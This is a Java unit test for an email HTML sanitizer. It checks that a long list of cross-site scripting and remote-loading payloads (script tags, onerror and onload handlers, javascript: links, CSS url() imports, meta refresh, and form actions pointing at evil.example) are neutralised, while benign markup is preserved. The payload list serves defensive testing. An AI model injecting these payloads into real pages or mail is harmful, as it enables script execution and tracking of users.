package org.mailpromoter.console.activity;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.mailpromoter.html.MailHtml;

class SafeHtmlTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></script>",
        "<img src=x onerror=alert(1)>",
        "<img src=https://evil.example/p.png>",
        "<img src=//evil.example/p.png>",
        "<img srcset='https://evil.example/p.png 2x'>",
        "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
        "<img src='cid:part1'>",
        "<svg onload=alert(1)><use href='https://evil.example/x'/></svg>",
        "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
        "<iframe src=https://evil.example></iframe>",
        "<object data=https://evil.example></object><embed src=https://evil.example>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>@import url(https://evil.example/x.css); b{background:url(//evil.example)}</style>",
        "<p style=\"background:url('https://evil.example/p.png')\">x</p>",
        "<p style='behavior:url(#x);-moz-binding:url(//evil.example)'>x</p>",
        "<p style='background-image: u\\72l(https://evil.example/p)'>x</p>",
        "<body background=https://evil.example/p.png>",
        "<table background=https://evil.example/p.png><tr><td background=//evil.example>x</td></tr></table>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href=https://evil.example/>",
        "<form action=https://evil.example><input name=p><button>x</button></form>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<video src=https://evil.example poster=//evil.example></video><audio src=//evil.example>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<template><script>alert(1)</script></template>",
        "<input type=image src=https://evil.example>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<p onclick=alert(1) id=main class=panel>x</p>",
        "<plaintext><script>alert(1)</script>"
      })
  void nothingRunsAndNothingIsLoaded(String html) {
    Document shown = Jsoup.parse(SafeHtml.of(html));
    assertThat(
            shown.select(
                "script, iframe, object, embed, link, base, form, input, button, svg, math, video,"
                    + " audio, a, meta[http-equiv], template, noscript"))
        .isEmpty();
    assertThat(shown.select("style")).hasSize(1);
    for (Element each : shown.getAllElements()) {
      each.attributes()
          .forEach(
              attribute -> {
                assertThat(attribute.getKey()).doesNotStartWith("on").isNotIn("srcset", "href");
                if (!attribute.getKey().equals("title")) {
                  assertThat(attribute.getValue().toLowerCase(Locale.ROOT))
                      .doesNotContain("evil.example", "javascript:", "url(");
                }
              });
    }
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '`',
      value = {
        "<p>One <b>two</b></p> | <p>One <b>two</b></p>",
        "<table border=\"1\"><tbody><tr><td>x</td></tr></tbody></table>"
            + " | <table border=\"1\"><tbody><tr><td>x</td></tr></tbody></table>",
        "<p style=\"color:red\">x</p> | <p style=\"color:red\">x</p>",
        "<a href=\"https://shop.example/?a=1\">offer</a>"
            + " | <span title=\"https://shop.example/?a&#61;1\">offer</span>",
        "<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"Mark\">"
            + " | <img src=\"data:image/png;base64,iVBORw0KGgo&#61;\" alt=\"Mark\" />"
      })
  void whatIsHarmlessStays(String html, String shown) {
    assertThat(SafeHtml.of(html)).contains("<body>" + shown + "</body>");
  }

  @Test
  void aTextWithoutEndIsCut() {
    String shown = SafeHtml.of("x".repeat(MailHtml.LONGEST + 1));
    assertThat(shown).hasSizeLessThan(MailHtml.LONGEST + 2_000).contains("are not shown");
  }
}
